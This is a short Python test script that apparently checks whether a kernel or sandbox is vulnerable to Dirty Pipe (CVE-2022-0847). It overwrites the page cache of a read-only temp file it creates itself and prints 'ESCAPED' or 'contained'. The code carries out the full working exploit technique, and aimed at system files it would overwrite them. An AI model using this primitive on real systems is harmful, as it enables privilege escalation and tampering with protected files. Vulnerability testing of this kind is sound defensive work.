# what: CVE-2022-0847: splices a page of a file opened for reading into a pipe, then writes to the pipe
# layers: kernel
import os
import tempfile

# On a file of its own, so that nothing is harmed if it works: what counts is that the page cache of a read-only descriptor changes.
path = os.path.join(tempfile.gettempdir(), "page")
with open(path, "wb") as file:
    file.write(b"original" * 512)
fd = os.open(path, os.O_RDONLY)
if hasattr(os, "splice"):
    for _ in range(4):
        reader, writer = os.pipe()
        size = 65536
        os.write(writer, b"x" * size)
        left = size
        while left > 0:
            left -= len(os.read(reader, left))
        os.splice(fd, writer, 1, offset_src=0)
        os.write(writer, b"DIRTY")
        if os.pread(fd, 16, 0) != b"original" * 2:
            print("ESCAPED dirty pipe", os.pread(fd, 16, 0))
        os.close(reader)
        os.close(writer)
os.unlink(path)
print("contained")
